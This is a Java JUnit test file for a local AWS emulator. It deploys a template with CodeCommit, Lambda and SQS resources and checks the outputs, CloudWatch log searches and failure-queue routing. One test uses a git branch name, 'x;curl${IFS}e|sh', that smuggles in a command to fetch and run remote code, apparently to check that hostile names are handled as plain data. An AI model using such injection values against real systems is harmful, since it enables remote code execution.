package dev.signalbox.local;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.signalbox.local.codecommit.GitClient;
import dev.signalbox.local.lambda.PackedFunction;
import dev.signalbox.local.template.Deployed;
import dev.signalbox.local.template.TemplateProblems;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.services.cloudwatchlogs.CloudWatchLogsClient;
import software.amazon.awssdk.services.cloudwatchlogs.model.FilteredLogEvent;
import software.amazon.awssdk.services.cloudwatchlogs.model.ResourceNotFoundException;
import software.amazon.awssdk.services.codecommit.CodeCommitClient;
import software.amazon.awssdk.services.sqs.SqsClient;
import software.amazon.awssdk.services.sqs.model.Message;

class DeployedTemplateTest {
  /** Prints the event as one line of JSON; fails when the branch says so. */
  private static final String HANDLER =
      """
      import com.amazonaws.services.lambda.runtime.*;
      import java.io.*;
      import java.nio.charset.StandardCharsets;

      public class Listener implements RequestStreamHandler {
        public void handleRequest(InputStream in, OutputStream out, Context context) throws IOException {
          String event = new String(in.readAllBytes(), StandardCharsets.UTF_8);
          System.out.println("{\\"level\\":\\"INFO\\",\\"table\\":\\"" + System.getenv("TABLE") + "\\",\\"seen\\":" + event + "}");
          if (event.contains("broken")) throw new IllegalStateException("as asked");
        }
      }
      """;

  private static final String TEMPLATE =
      """
      AWSTemplateFormatVersion: '2010-09-09'
      Transform: AWS::Serverless-2016-10-31
      Parameters:
        Repository: {Type: String}
      Resources:
        Code:
          Type: AWS::CodeCommit::Repository
          Properties: {RepositoryName: !Ref Repository}
        Lost:
          Type: AWS::SQS::Queue
        Listener:
          Type: AWS::Serverless::Function
          Properties:
            FunctionName: listener
            Runtime: java25
            Handler: Listener::handleRequest
            CodeUri: Listener.zip
            Timeout: 20
            Environment: {Variables: {TABLE: !Ref Lost}}
            EventInvokeConfig:
              MaximumRetryAttempts: 0
              DestinationConfig: {OnFailure: {Type: SQS, Destination: !GetAtt Lost.Arn}}
            Events:
              Push:
                Type: EventBridgeRule
                Properties:
                  Pattern:
                    source: [aws.codecommit]
                    detail-type: [CodeCommit Repository State Change]
                    detail: {event: [referenceCreated, referenceUpdated]}
      Outputs:
        LostUrl: {Value: !Ref Lost}
        Listener: {Value: !GetAtt Listener.Arn}
        Clone: {Value: !GetAtt Code.CloneUrlHttp}
      """;

  @RegisterExtension private static final LocalServer SERVER = new LocalServer();
  @TempDir private static Path directory;
  private static Map<String, String> outputs = Map.of();

  @BeforeAll
  static void deploy() throws IOException {
    PackedFunction.of(directory, "Listener", HANDLER);
    Path template = Files.writeString(directory.resolve("template.yaml"), TEMPLATE);
    Deployed deployed =
        SERVER
            .local()
            .deploy(
                LocalServer.ACCOUNT, "eu-west-1", "test", template, Map.of("Repository", "shop"));
    outputs = deployed.outputs();
    assertThat(deployed.ignored()).isEmpty();
  }

  private static List<FilteredLogEvent> lines(String pattern) {
    try (CloudWatchLogsClient logs = SERVER.client(CloudWatchLogsClient.builder())) {
      return logs.filterLogEvents(
              it -> it.logGroupName("/aws/lambda/listener").filterPattern(pattern))
          .events();
    } catch (ResourceNotFoundException e) {
      return List.of();
    }
  }

  private static String pushed(String branch, Path work) throws IOException {
    GitClient git = GitClient.init(work, URI.create(outputs.getOrDefault("Clone", "")));
    Files.writeString(work.resolve("a.txt"), branch);
    git.run("add", ".");
    git.run("commit", "-qm", "One");
    git.run("push", "-q", "origin", "HEAD:refs/heads/" + branch);
    return git.run("rev-parse", "HEAD");
  }

  @Test
  void outputsAreWhatTheServicesAnswer() {
    assertThat(outputs)
        .containsEntry("Listener", "arn:aws:lambda:eu-west-1:111111111111:function:listener")
        .containsEntry("Clone", SERVER.address() + "/v1/repos/shop")
        .hasEntrySatisfying("LostUrl", url -> assertThat(url).startsWith(SERVER.address() + "/"));
  }

  @Test
  void aPushReachesTheFunctionAndItsJsonLinesCanBeSearched(@TempDir Path work) throws IOException {
    String branch = "x;curl${IFS}e|sh";
    String commit = pushed(branch, work);
    String pattern = "{ $.level = \"INFO\" && $.seen.detail.referenceName = \"" + branch + "\" }";
    await().atMost(Duration.ofSeconds(60)).until(() -> !lines(pattern).isEmpty());
    assertThat(lines(pattern).getFirst().message())
        .contains("\"commitId\":\"" + commit + "\"")
        .contains("\"table\":\"" + outputs.get("LostUrl") + "\"");
  }

  @Test
  void anEventTheFunctionFailsOnEndsInItsQueue(@TempDir Path work) throws IOException {
    String commit = pushed("main", work);
    try (CodeCommitClient codeCommit = SERVER.client(CodeCommitClient.builder());
        SqsClient sqs = SERVER.client(SqsClient.builder())) {
      codeCommit.createBranch(
          it -> it.repositoryName("shop").branchName("broken/ünïcode").commitId(commit));
      await()
          .atMost(Duration.ofSeconds(60))
          .until(() -> received(sqs).stream().anyMatch(it -> it.body().contains("as asked")));
    }
  }

  private static List<Message> received(SqsClient sqs) {
    return sqs.receiveMessage(it -> it.queueUrl(outputs.get("LostUrl")).waitTimeSeconds(1))
        .messages();
  }

  @Test
  void aTemplateThatIsWrongNamesEveryProblem() throws IOException {
    Path template =
        Files.writeString(
            directory.resolve("wrong.yaml"),
            """
            Resources:
              A: {Type: AWS::SQS::Queue, Properties: {QueueName: !Ref Nobody}}
              B: {Typ: AWS::SQS::Queue}
            """);
    assertThatThrownBy(() ->
            SERVER.local().deploy(LocalServer.ACCOUNT, "eu-west-1", "wrong", template, Map.of()))
        .isInstanceOf(TemplateProblems.class)
        .hasMessageContaining("Nobody")
        .hasMessageContaining("Typ");
  }
}
